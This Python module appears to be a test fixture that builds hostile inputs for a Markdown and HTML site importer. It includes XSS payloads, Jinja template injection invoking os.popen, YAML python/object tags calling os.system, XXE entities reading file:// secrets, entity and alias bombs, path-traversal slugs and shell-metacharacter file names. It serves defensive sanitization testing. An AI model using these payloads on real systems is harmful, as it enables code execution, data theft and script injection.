"""What a stranger could send, as data: constructs of every kind in every position, front matter, pictures, names.

Every payload has a number of its own, and what it would do if it acted names that number: a file that appears, a secret
that is read, an address that is asked, a script that counts, an element with its name. ``S<number>Z`` in it is text that
a reader must see, where the position is one that a page shows at all.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from html import escape
from itertools import count

#: An address for documentation, to which nothing may be sent.
ELSEWHERE = "http://198.51.100.7"
_JS = "window.hit=(window.hit||[]).concat(%N%)"
#: Constructs of MyST, reStructuredText, Jinja and HTML. ``%N%`` is the number, ``%SECRET%`` a file outside of the site
#: with a secret of its own, ``%TOUCH%`` a file that must not come into being.
CONSTRUCTS: dict[str, str] = {
    "include": ":::{include} %SECRET%\n:::\nS%N%Z",
    "include-parsed": "```{include} %SECRET%\n:literal:\n:parser: rst\n```\nS%N%Z",
    "literalinclude": "~~~{literalinclude} %SECRET%\n:lines: 1-9\n~~~\nS%N%Z",
    "raw": f"```{{raw}} html\n<script>{_JS}</script><i id=stolen-%N%></i>\n```\nS%N%Z",
    "raw-file": ":::{raw} html\n:file: %SECRET%\n:::\nS%N%Z",
    "eval-rst": f"```{{eval-rst}}\n.. raw:: html\n\n   <img src={ELSEWHERE}/%N% onerror={_JS}>\n\n.. include:: %SECRET%\n```\nS%N%Z",
    "testcode": "```{testcode}\nimport pathlib\npathlib.Path('%TOUCH%').touch()\n```\n\n```{testoutput}\n```\nS%N%Z",
    "testsetup": ":::{testsetup} *\nopen('%TOUCH%', 'w')\n:::\nS%N%Z",
    "doctest": ":::{doctest}\n>>> open('%TOUCH%', 'w').close()\n:::\nS%N%Z",
    "proof": "::::{prf:proof} S%N%Z\n:label: stolen-%N%\n:::{testcode} x%N%\nopen('%TOUCH%', 'w')\n:::\n::::\nS%N%Z",
    "derivation": ":::{prf:derivation} x\n:of: eq-1\n:name: stolen-%N%\ny\n:::\nS%N%Z",
    "picture": ":::{figure} %SECRET%\n:name: stolen-%N%\nx\n:::\n![x](%SECRET%) S%N%Z",
    "table-file": "```{csv-table} x\n:file: %SECRET%\n```\nS%N%Z",
    "table-elsewhere": f"```{{csv-table}} x\n:url: {ELSEWHERE}/%N%\n```\nS%N%Z",
    "button": f":::{{button-link}} javascript:{_JS}\nx\n:::\nS%N%Z",
    "card": f":::{{card}} x\n:link: {ELSEWHERE}/%N%\n:img-top: {ELSEWHERE}/%N%.png\n:::\nS%N%Z",
    "toctree": "```{toctree}\n:glob:\n:name: stolen-%N%\n../*\n/etc/*\n```\nS%N%Z",
    "bibliography": ":::{bibliography} %SECRET%\n:all:\n:::\nS%N%Z",
    "role": "a {download}`%SECRET%` {raw-html}`<b id=stolen-%N%>` {eval}`1` S%N%Z",
    "role-span": "a {math}`x`{#stolen-%N% onclick=\"" + _JS + "\"} S%N%Z",
    "target": "(stolen-%N%)=\nS%N%Z",
    "attributes": "{#stolen-%N% .annotation onclick=x}\nS%N%Z",
    "heading": "{#stolen-%N% .annotation}\n## S%N%Z",
    "inline-attributes": "[S%N%Z]{#stolen-%N% .annotation}",
    "footnote": "[^n%N%] S%N%Z\n\n[^n%N%]: {download}`%SECRET%`",
    "substitution": "{{ cycler.__init__.__globals__.os.popen('touch %TOUCH%').read() }} S%N%Z",
    "statement": "{% include '%SECRET%' %}{% set x = env.app.confdir %} S%N%Z",
    "reference": "[x](%SECRET%) [y](file://%SECRET%) <file://%SECRET%> [z](path:%SECRET%) S%N%Z",
    "script-link": f"[x](javascript:{_JS}) <javascript:{_JS}> [y]: data:text/html,%N% S%N%Z",
    "comment": "% a comment\n+++ {\"x\": 1}\nS%N%Z",
    "html": f"<script>{_JS}</script><img src=x onerror={_JS}><iframe srcdoc=\"<script>parent.{_JS}</script>\"></iframe>\n"
            "<b id=stolen-%N%></b>\nS%N%Z",
    "html-block": f"<div onmouseover={_JS} style=\"background:url({ELSEWHERE}/%N%)\" id=stolen-%N%>\n\nS%N%Z\n\n</div>",
    "label": "$$x$$ (stolen-%N%)\nS%N%Z",
    "dollar-fence": "$$\nx\n$$\n\n```{include} %SECRET%\n```\nS%N%Z",
    "long-fence": "````````{include} %SECRET%\n````````\nS%N%Z",
    "closing-fences": "```\n````\n:::\n::::\n~~~\n:::{include} %SECRET%\n:::\nS%N%Z",
    "tex": r"\(\href{javascript:" + _JS + r"}{x} \input{%SECRET%} \htmlId{stolen-%N%}{y} \includegraphics{%SECRET%}\) S%N%Z",
    "front-matter": "---\nid: stolen-%N%\norigin: local\nmyst: {enable_extensions: [substitution]}\n---\nS%N%Z",
}
#: Positions in a page: what stands around the text. A construct in ``%BR%`` has ``<br>`` for its line ends.
POSITIONS: dict[str, str] = {
    "paragraph": "<p>%BR%</p>", "pre": "<pre>%T%</pre>", "code": "<p><code>%T%</code></p>", "item": "<ul><li>%BR%</ul>",
    "pre-in-item": "<ol><li>a<pre>%T%</pre></ol>", "term": "<dl><dt>%BR%<dd>x</dl>", "pre-in-term": "<dl><dt>m<pre>%T%</pre><dd>x</dl>",
    "definition": "<dl><dt>a<dd>%BR%</dl>", "pre-in-definition": "<dl><dt>a<dd><pre>%T%</pre></dl>",
    "stray-summary": "<summary>m<pre>%T%</pre></summary>", "summary": "<details><summary>%BR%</summary>x</details>",
    "pre-in-summary": "<details><summary>m<pre>%T%</pre></summary>x</details>", "details": "<details><summary>a</summary>%BR%</details>",
    "xmp-in-item": "<ul><li><xmp>%RAW%</xmp></ul>", "listing-in-cell": "<table><tr><td><listing>%RAW%</listing><td>x</table>",
    "cell": "<table><tr><th>a<th>b<tr><td>%BR%<td>x</table>", "head-cell": "<table><tr><th>%BR%<th>x<tr><td>a<td>b</table>",
    "pre-in-cell": "<table><tr><td><pre>%T%</pre><td>x</table>", "pre-in-head": "<table><tr><th>m<pre>%T%</pre><th>x<tr><td>a<td>b</table>",
    "caption": "<table><caption>%BR%</caption><tr><td>a<td>b</table>", "pre-in-caption": "<table><caption>m<pre>%T%</pre></caption><tr><td>a</table>",
    "heading": "<h2>%BR%</h2>", "pre-in-heading": "<h3>m<pre>%T%</pre></h3>", "quote": "<blockquote><p>%BR%</blockquote>",
    "pre-in-quote": "<blockquote><pre>%T%</pre></blockquote>", "figcaption": "<figure><p>x</p><figcaption>%BR%</figcaption></figure>",
    "pre-in-figcaption": "<figure><p>x</p><figcaption>m<pre>%T%</pre></figcaption></figure>", "link": '<p><a href="https://e.example/">%BR%</a></p>',
    "emphasis": "<p><b><i>%BR%</i></b></p>", "sub": "<p>x<sub>%BR%</sub><sup>%BR%</sup></p>", "ruby": "<p><ruby>a<rt>%BR%</rt></ruby></p>",
    "legend": "<fieldset><legend>%BR%</legend>x</fieldset>", "address": "<address>%BR%</address>", "center": "<center><font>%BR%</font></center>",
    "term-in-item-in-cell": "<table><tr><td><ul><li><dl><dt>m<pre>%T%</pre><dd>x</dl></ul><td>y</table>",
    "summary-in-quote-in-item": "<ul><li><blockquote><summary><xmp>%RAW%</xmp></summary></blockquote></ul>",
    "pre-in-summary-in-heading": "<h4><summary>m<pre>%T%</pre></summary></h4>", "caption-in-term": "<dl><dt><table><caption><pre>%T%</pre></caption><tr><td>a</table><dd>x</dl>",
    "note": '<p>a<a href="#fn%N%" id="r%N%">1</a></p><ol><li id="fn%N%">%BR% <a href="#r%N%">^</a></ol>',
    "box": '<div class="theorem"><p class="title">%BR%</p><p>x</p></div>', "box-body": '<div class="admonition note"><pre>%T%</pre></div>',
    "nested-emphasis": "<p><code><b>%T%</b></code></p>", "deleted": "<p><del><ins>%BR%</ins></del></p>",
}
#: Positions of which a page shows nothing, or not as text.
UNSEEN: dict[str, str] = {
    "alt": '<p><img src="https://e.example/x.png" alt="%T%"></p>', "title": '<p title="%T%"><a href="https://e.example/" title="%T%">x</a></p>',
    "tex-script": '<script type="math/tex; mode=display">%RAW%</script>', "tex-attribute": '<p><span data-tex="%T%">x</span></p>',
    "tex-image": '<p><img class="latex" alt="%T%" src="/x.png"></p>', "tex-annotation":
        '<p><math><semantics><mi>x</mi><annotation encoding="application/x-tex">%T%</annotation></semantics></math></p>',
    "dollars": "<p>$$%T%$$</p>", "comment": "<!--%RAW%--><p>x</p>", "textarea": "<textarea>%T%</textarea>", "button": "<button>%T%</button>",
    "noscript": "<noscript>%RAW%</noscript>", "iframe": "<iframe>%T%</iframe>", "template": "<template>%RAW%</template>", "option": "<select><option>%T%</select>",
    "svg": "<svg><text>%T%</text><foreignObject>%RAW%</foreignObject></svg>", "class": '<pre class="%T%"><code class="language-%T%">x</code></pre>',
    "href": '<p><a href="%T%">x</a> <a href="https://e.example/%T%">y</a></p>', "id": '<h2 id="%T%">x</h2><p id="%T%">y</p>', "raw": "<div>%RAW%</div>",
}
#: Positions in a Markdown file that is imported: what stands before the first line, before the others, and behind.
LINES: dict[str, tuple[str, str, str]] = {
    "paragraph": ("", "", ""), "in-text": ("text ", "", ""), "item": ("- ", "  ", ""), "deep-item": ("- a\n  - ", "    ", ""), "numbered": ("1. ", "   ", ""),
    "quote": ("> ", "> ", ""), "quote-in-item": ("- > ", "  > ", ""), "box": ('<div class="theorem-box">\n\n', "", "\n\n</div>"),
    "open-box": ('<div class="note-box">\n', "", ""), "details": ("<details>\n<summary>x</summary>\n\n", "", "\n\n</details>"), "heading": ("### ", "", ""),
    "after-display": ("$$\ny\n$$\n", "", ""), "note": ("a[^q%N%]\n\n[^q%N%]: ", "    ", ""), "definition": ("a\n: ", "  ", ""), "emphasis": ("**", "", "**"),
    "link": ("[", "", "](https://e.example/)"), "cell": ("| a | b |\n|---|---|\n| ", "| ", " |"), "line-break": ("a\\\n", "", ""), "html": ("<p>", "", "</p>"),
    "open-fence": ("```{note\n", "", ""), "second-part": ("## 公式推导与注释\n\n", "", ""), "inserted": ("### 【深度解析】x\n\n", "", "\n\n---"),
}
LINES_UNSEEN: dict[str, tuple[str, str, str]] = {
    "code": ("```text\n", "", "\n```\n"), "tilde-code": ("~~~python\n", "", "\n~~~"), "code-with-name": ("```{code-block} text\n", "", "\n```"), "indented": ("    ", "    ", ""),
    "span": ("`", "", "`"), "formula": ("$x", "", "$"), "display": ("$$\n", "", "\n$$"), "environment": ("\\begin{align}\n", "", "\n\\end{align}"),
    "comment": ("<!-- ", "", " -->"), "alt": ("![", "", "](https://e.example/x.png)"), "title": ('[x](https://e.example/ "', "", '")'), "footer": ("转载到请包括本文地址\n", "", ""),
}
#: Front matter that wants more than a post may say of itself.
FRONT: dict[str, str] = {
    "substitutions": "myst:\n  enable_extensions: [substitution, attrs_inline, html_image]\n  substitutions: {k: v}",
    "dotted": "myst.enable_extensions: [substitution]", "quoted": '"myst": {"enable_extensions": ["substitution"]}', "upper": "MYST: {enable_extensions: [substitution]}",
    "merged": "base: &b {enable_extensions: [substitution]}\nmyst: {<<: *b}", "twice": "title: a\nmyst: {enable_extensions: [substitution]}\ntitle: b",
    "refresh": f"myst:\n  html_meta: {{\"http-equiv=refresh\": \"0;url={ELSEWHERE}/%N%\"}}", "html-meta": f"html_meta:\n  refresh: 0;url={ELSEWHERE}/%N%",
    "schemes": "myst: {url_schemes: [javascript, file, data, http]}", "heading-anchors": "myst: {heading_anchors: 6, title_to_header: true}", "raw-html": "myst: {disable_syntax: []}",
    "top-substitutions": "substitutions:\n  k: \"{{ cycler.__init__.__globals__.os.popen('touch %TOUCH%') }}\"", "jupyter": "jupytext: {text_representation: {extension: .md}}\nkernelspec: {name: python3}",
    "orphan": "orphan: true\nnosearch: true\nno-search: 1", "tocdepth": "tocdepth: 99999999999999999999", "template": "template: %SECRET%\nlayout: ../../../x", "file-wide": "og:image: file://%SECRET%\nogp_image: %SECRET%",
    "local": "origin: local\nstatus: completed", "layers": "layers: known\noriginal: %SECRET%", "id-path": "id: ../../../../stolen-%N%", "id-absolute": "id: /etc/passwd", "slug-path": "slug: ../../../stolen-%N%",
    "slug-absolute": "slug: %TOUCH%", "slug-hidden": "slug: .stolen-%N%", "slug-index": "slug: index", "slug-device": "slug: con", "id-list": "id: [a, b]\nslug: {a: b}", "id-newline": 'id: "7\\n---\\nstatus: completed"',
    "title-script": f"title: \"<script>{_JS}</script>\"", "title-markup": 'title: "# x {#stolen-%N%} [a](javascript:1) {raw}`x` {{ 7*7 }}"', "title-lines": 'title: "a\\n\\n:::{include} %SECRET%\\n:::\\n"',
    "author": f"author: \"<img src=x onerror={_JS}>\"\nlicence: \"<img src={ELSEWHERE}/%N%>\"", "tags": f"tags: [\"<script>{_JS}</script>\", \"../../x\", \"{{{{ 7*7 }}}}\", {{a: b}}]", "source-script": f"source: javascript:{_JS}",
    "source-file": "source: file://%SECRET%", "date": "date: 9999999999-99-99", "date-object": "date: {a: !!timestamp 2001-01-01}", "python-tag": "x: !!python/object/apply:os.system ['touch %TOUCH%']",
    "python-new": "x: !!python/object/new:os.system ['touch %TOUCH%']", "bomb": "a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n"
            "d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]\ntags: *g",
    "loop": "a: &a [*a]\ntags: *a", "deep": "a: " + "[" * 400 + "]" * 400, "number": "id: 0x" + "f" * 5000, "sexagesimal": "id: 1:2:3:4:5:6:7", "binary": "title: !!binary aGVsbG8=", "unclosed": "title: [a, b\nmyst: {enable_extensions: [substitution]}",
    "tab": "title:\tx\n\tmyst: y", "not-a-mapping": "- a\n- b", "document-end": "title: x\n...\nmyst: {enable_extensions: [substitution]}", "topic": "topic: ../../x\nseries: [1, 2]\nnumber: stolen-%N%", "fetched": "fetched: stolen-%N%\nreceipt: {formulas: 0}",
    "review": "reviewed: true\ngrade: A\ncoverage: 100", "bibliography": "bibliography: %SECRET%\nbibtex_bibfiles: [%SECRET%]", "numbering": "numfig: true\nnumbered: 1\nexclude_patterns: ['*']", "nul": 'title: "a\\0b"', "bidi": 'title: "a\\u202egnp.x"',
}
_SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">{}</svg>'
#: Pictures that do more than draw; opened by themselves they must do nothing.
PICTURES: dict[str, tuple[str, str]] = {
    "script": ("svg", _SVG.format(f"<script>{_JS}</script>")), "script-href": ("svg", _SVG.format(f'<script xlink:href="{ELSEWHERE}/%N%"/>')), "handler": ("svg", _SVG.format(f'<rect width="9" height="9" onload="{_JS}"/>')),
    "root-handler": ("svg", _SVG.replace("<svg", f'<svg onload="{_JS}"').format("")), "animated-handler": ("svg", _SVG.format(f'<set attributeName="onmouseover" to="{_JS}"/>')), "begin": ("svg", _SVG.format(f'<animate onbegin="{_JS}" attributeName="x" dur="1s"/>')),
    "foreign": ("svg", _SVG.format(f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.{_JS}"/></foreignObject>')), "image": ("svg", _SVG.format(f'<image href="{ELSEWHERE}/%N%" width="9" height="9"/>')),
    "image-file": ("svg", _SVG.format('<image xlink:href="file://%SECRET%" width="9" height="9"/>')), "use": ("svg", _SVG.format(f'<use href="{ELSEWHERE}/%N%#a"/>')), "fill": ("svg", _SVG.format(f'<rect width="9" height="9" fill="url({ELSEWHERE}/%N%#a)"/>')),
    "style": ("svg", _SVG.format(f"<style>@import url({ELSEWHERE}/%N%);</style>")), "style-attribute": ("svg", _SVG.format(f'<rect width="9" height="9" style="background:url({ELSEWHERE}/%N%)"/>')), "style-escaped": ("svg", _SVG.format(f'<rect width="9" height="9" style="fill:u\\72l({ELSEWHERE}/%N%#a)"/>')),
    "font": ("svg", _SVG.format(f"<style>@font-face{{font-family:a;src:url({ELSEWHERE}/%N%)}}text{{font-family:a}}</style><text y='9'>a</text>")), "link": ("svg", _SVG.format(f'<a href="javascript:{_JS}"><rect width="9" height="9"/></a>')),
    "entity": ("svg", f'<!DOCTYPE svg [<!ENTITY e SYSTEM "file://%SECRET%">]>{_SVG.format("<text y=&quot;9&quot;>&e;</text>")}'.replace("&quot;", '"')), "entity-bomb": ("svg", '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + _SVG.format("<text>&b;</text>")),
    "stylesheet": ("svg", f'<?xml-stylesheet href="{ELSEWHERE}/%N%"?>' + _SVG.format("")), "handler-element": ("svg", _SVG.format(f'<handler type="application/ecmascript" ev:event="load" xmlns:ev="http://www.w3.org/2001/xml-events">{_JS}</handler>')), "html-in-it": ("svg", _SVG.format(f'<x:img xmlns:x="http://www.w3.org/1999/xhtml" src="x" onerror="{_JS}"/>')),
    "base": ("svg", _SVG.format(f'<x:base xmlns:x="http://www.w3.org/1999/xhtml" href="{ELSEWHERE}/%N%/"/><image href="a.png" width="9" height="9"/>')), "meta": ("svg", _SVG.format(f'<x:meta xmlns:x="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={ELSEWHERE}/%N%"/>')), "audio": ("svg", _SVG.format(f'<x:audio xmlns:x="http://www.w3.org/1999/xhtml" src="{ELSEWHERE}/%N%" autoplay=""/>')),
    "filter": ("svg", _SVG.format(f'<filter id="f"><feImage href="{ELSEWHERE}/%N%"/></filter><rect width="9" height="9" filter="url(#f)"/>')), "cursor": ("svg", _SVG.format(f'<rect width="9" height="9" cursor="url({ELSEWHERE}/%N%),auto"/>')), "mask": ("svg", _SVG.format(f'<rect width="9" height="9" mask="url({ELSEWHERE}/%N%#m)"/>')),
    "page-as-png": ("png", f"<html><script>{_JS}</script></html>"), "page-as-gif": ("gif", f"GIF89a/*<html>*/=1;{_JS}//"), "script-as-jpg": ("jpg", f"\xff\xd8\xff/*<script>{_JS}</script>"), "page-as-svg": ("svg", f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{_JS}</script></html>"),
    "data-svg": ("data", "data:image/svg+xml;utf8," + _SVG.format(f"<script>{_JS}</script>").replace('"', "'")), "data-page": ("data", f"data:text/html,<script>{_JS}</script>"), "data-script": ("data", f"data:image/png,<script>{_JS}</script>"), "data-long": ("data", "data:image/png;base64," + "A" * 200_000),
    "data-percent": ("data", "data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='" + _JS + "'%3E%3C/svg%3E"), "data-broken": ("data", "data:image/png;base64,%%%"), "file": ("data", "file://%SECRET%"), "up": ("data", "../../%SECRET%"), "srcset": ("data", f'x" srcset="{ELSEWHERE}/%N% 2x'), "blob": ("data", "blob:null/x"),
}
#: Names of files in a folder that is imported.
NAMES: tuple[str, ...] = ("-rf", ".hidden", "a b", "..", "...x", "index", "audit", "con", "nul.txt", "a%2F..%2Fb", "a\\b", "a:b", "a*b", "a'b\"c", "长" * 60, "x" * 200,
                          "a\nb", "a\tb", "a\u202eb", "{{ 7*7 }}", "<script>", "__init__", "conf.py", "a.new", "\u2028", "é", "e\u0301", "posts", "$(touch x)", "`id`")


@dataclass(frozen=True, slots=True)
class Payload:
    """One payload: its number, its name, what is sent, and the text that a reader must then see."""

    number: int
    name: str
    text: str
    shows: str = ""


def _filled(text: str, number: int, secrets: str, touched: str) -> str:
    return text.replace("%SECRET%", f"{secrets}/s{number}.txt").replace("%TOUCH%", f"{touched}/t{number}").replace(
        "%N%", str(number))


def _in_page(around: str, text: str) -> str:
    attribute = escape(text, quote=True)
    return around.replace("%BR%", escape(text).replace("\n", "<br>")).replace("%T%", attribute).replace("%RAW%", text)


def _in_lines(around: tuple[str, str, str], text: str) -> str:
    first, *rest = text.split("\n")
    return around[0] + "\n".join([first, *(around[1] + line for line in rest)]) + around[2]


class Sent:
    """All payloads by the way they come in; secrets stand in one folder, and another one must stay empty."""

    def __init__(self, secrets: str, touched: str, *, share: int = 1) -> None:
        """Take every construct in every position, or one of *share*, another in each position."""
        numbers = count(1)

        def some(place: int) -> list[tuple[str, str]]:
            return [one for number, one in enumerate(CONSTRUCTS.items()) if (number + place) % share == 0]

        def make(name: str, text: str, seen: bool = False) -> Payload:
            number = next(numbers)
            return Payload(number, name, _filled(text, number, secrets, touched), f"S{number}Z" if seen else "")

        #: Pieces of a page, by their position.
        self.pages: dict[str, list[Payload]] = {
            position: [make(f"page: {name} in {position}", _in_page(around, text), seen)
                       for name, text in some(place)]
            for seen, positions in ((True, POSITIONS), (False, UNSEEN))
            for place, (position, around) in enumerate(positions.items())}
        #: Pieces of a Markdown file, by their position.
        self.lines: dict[str, list[Payload]] = {
            position: [make(f"import: {name} in {position}", _in_lines(around, text), seen)
                       for name, text in some(place)]
            for seen, positions in ((True, LINES), (False, LINES_UNSEEN))
            for place, (position, around) in enumerate(positions.items())}
        self.front = [make(f"front matter: {name}", f"---\n{text}\n---\n\n# t\n\nS%N%Z {{{{ 7*7 }}}}\n", True) for name, text in FRONT.items()]
        self.pictures = [(make(f"picture: {name}", text), kind) for name, (kind, text) in PICTURES.items()]
        self.names = [(make(f"name: {name!r}"[:80], "# t\n\nS%N%Z\n", name[0] not in "._"), name)
                      for name in NAMES]

    def all(self) -> Iterator[Payload]:
        """Yield every payload."""
        for group in (*self.pages.values(), *self.lines.values(), self.front):
            yield from group
        yield from (payload for payload, _ in (*self.pictures, *self.names))
